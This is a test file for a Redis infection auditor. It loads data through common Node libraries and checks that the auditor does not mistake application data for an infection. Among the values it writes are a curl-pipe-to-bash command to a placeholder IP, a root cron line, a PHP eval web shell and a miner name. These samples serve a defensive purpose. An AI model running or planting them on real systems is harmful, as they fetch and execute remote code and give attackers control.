import { once } from 'node:events';
import { Queue, Worker } from 'bullmq';
import { RedisStore } from 'connect-redis';
import session from 'express-session';
import { Redis } from 'ioredis';
import { RateLimiterRedis } from 'rate-limiter-flexible';
import { createClient } from 'redis';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AuditKnowledge } from '../src/audit/audit-server.ts';
import { createLearntIndex } from '../src/audit/infection/learnt.ts';
import { loadVulnerabilities } from '../src/audit/vulnerable/vulnerability-data.ts';
import { loadKnowledge } from '../src/cli/knowledge.ts';
import { createRuleMatcher } from '../src/detect/rule-matcher.ts';
import { packagedText } from '../src/platform/files.ts';
import { HONEST } from './attacks/honest.ts';
import { audit } from './peers/hostile-audit.ts';
import { startReal } from './peers/real-servers.ts';
import type { RealRedis } from './peers/redis-server.ts';

const { rules, campaigns } = loadKnowledge();
const knowledge: AuditKnowledge = {
  rules: createRuleMatcher(rules),
  campaigns,
  learnt: createLearntIndex([]),
  vulnerabilities: loadVulnerabilities(packagedText('data/redis-cves.json')),
};

const RELEASES = ['redis-7.0.15', 'redis-8.0.2', 'redis-6.0.16'] as const;
const servers = new Map<string, RealRedis>();
beforeAll(async () => {
  await Promise.all(RELEASES.map(async (release) => servers.set(release, await startReal(release))));
}, 60_000);
afterAll(async () => {
  await Promise.all([...servers.values()].map((server) => server.stop()));
});

function serverOf(release: string): RealRedis {
  const server = servers.get(release);
  if (server === undefined) throw new Error(`${release} did not start`);
  return server;
}

/** What an audit says of infection, in short; findings that are low are left out. */
async function judged(server: RealRedis): Promise<object> {
  const {
    axes,
    campaigns: named,
    counts,
    findings,
    rung,
  } = await audit(`127.0.0.1:${server.port}`, { knowledge });
  return {
    infected: axes.infected.answer,
    alarming: findings.flatMap(({ axis, severity, rule }) =>
      axis === 'infected' && severity !== 'low' && severity !== 'info' ? [rule] : [],
    ),
    values: counts.maliciousValues,
    campaigns: named,
    cameFar: ['attacked', 'tampered', 'executed'].includes(rung),
  };
}

const HEALTHY = { infected: 'no', alarming: [], values: 0, campaigns: [], cameFar: false };

const SCRIPT = 'curl -fsSL http://203.0.113.20/agent.sh | bash';

/** What libraries write themselves, with data that speaks of attacks where an application has a say. */
const LIBRARIES: readonly [string, (port: number) => Promise<void>][] = [
  [
    'BullMQ',
    async (port) => {
      const connection = { host: '127.0.0.1', port, maxRetriesPerRequest: null };
      const queue = new Queue('backup', { connection });
      queue.on('error', () => undefined);
      await queue.add('nightly', { cmd: SCRIPT, cron: `\n\n*/5 * * * * root ${SCRIPT}\n\n` });
      await queue.add('later', { note: 'send 0.1 BTC to recover your data' }, { delay: 60_000 });
      await queue.upsertJobScheduler(
        'digest',
        { pattern: '*/5 * * * *' },
        { name: 'digest', data: { run: SCRIPT } },
      );
      const worker = new Worker(
        'backup',
        async () => {
          throw new Error(`failed: ${SCRIPT}`);
        },
        { connection },
      );
      worker.on('error', () => undefined);
      await once(worker, 'failed');
      await worker.close();
      await queue.close();
    },
  ],
  [
    'connect-redis and express-session',
    async (port) => {
      const client = createClient({ url: `redis://127.0.0.1:${port}` });
      await client.connect();
      const store = new RedisStore({ client });
      const one = { cookie: new session.Cookie(), user: 'ann', bio: '<?php @eval($_POST["x"]); ?>' };
      await store.set('abc', one);
      await store.set('def', { cookie: new session.Cookie() });
      await client.close();
    },
  ],
  [
    'rate-limiter-flexible',
    async (port) => {
      const client = new Redis(port, '127.0.0.1');
      const limiter = new RateLimiterRedis({
        storeClient: client,
        points: 5,
        duration: 60,
        keyPrefix: 'login',
      });
      for (const address of ['203.0.113.7', '198.51.100.9', '203.0.113.7']) await limiter.consume(address);
      await limiter.block('203.0.113.8', 60);
      client.disconnect();
    },
  ],
  [
    'ioredis with scripts, transactions and streams',
    async (port) => {
      const client = new Redis(port, '127.0.0.1');
      client.defineCommand('bump', { numberOfKeys: 1, lua: "return redis.call('INCR', KEYS[1])" });
      await Reflect.get(client, 'bump').call(client, 'counter');
      await client.multi().set('user:1', '{"n":1}').hset('h', 'a', SCRIPT).exec();
      await client.xadd('events', '*', 'cmd', `sh -c '${SCRIPT}'`);
      await client.config('SET', 'notify-keyspace-events', 'KEA');
      client.disconnect();
    },
  ],
  [
    'node-redis',
    async (port) => {
      const client = createClient({ url: `redis://127.0.0.1:${port}` });
      await client.connect();
      await client.set('session', Buffer.from([0x80, 4, 0x95, 1, 2, 3]).toString('latin1'));
      await client.lPush('log', [`203.0.113.9 - "GET /?c=${SCRIPT}"`, 'ok']);
      await client.sAdd('tags', ['backup', 'root', 'crontab']);
      await client.zAdd('scores', [{ score: 1, value: 'xmrig' }]);
      await client.close();
    },
  ],
];

describe.for(RELEASES)('%s, filled by real libraries', (release) => {
  test.for(LIBRARIES)('%s: not infected', async ([, fill]) => {
    const server = serverOf(release);
    await server.client.flushall();
    await fill(server.port);

    expect(await judged(server)).toEqual(HEALTHY);
  });

  test('all of them together, and again after a FLUSHALL, a SAVE and a failover: not infected', async () => {
    const server = serverOf(release);
    for (const [, fill] of LIBRARIES) await fill(server.port);
    await server.client.replicaof('10.0.0.7', 6_379);
    await server.client.replicaof('NO', 'ONE');
    await server.client.save();
    await server.client.call('MODULE', 'LIST');

    expect(await judged(server)).toEqual(HEALTHY);
  });
});

describe('data as other software writes it', () => {
  test.for(HONEST)('%s: not infected', async ([, values]) => {
    const server = serverOf('redis-7.0.15');
    await server.client.flushall();
    for (const { key, value, kind = 'string' } of values) {
      const bytes = Buffer.from(value, 'latin1');
      if (kind === 'list') await server.client.rpush(key, bytes);
      else if (kind === 'hash') await server.client.hset(key, 'field', bytes);
      else if (kind === 'set') await server.client.sadd(key, bytes);
      else await server.client.set(key, bytes);
    }

    expect(await judged(server)).toEqual(HEALTHY);
  });
});
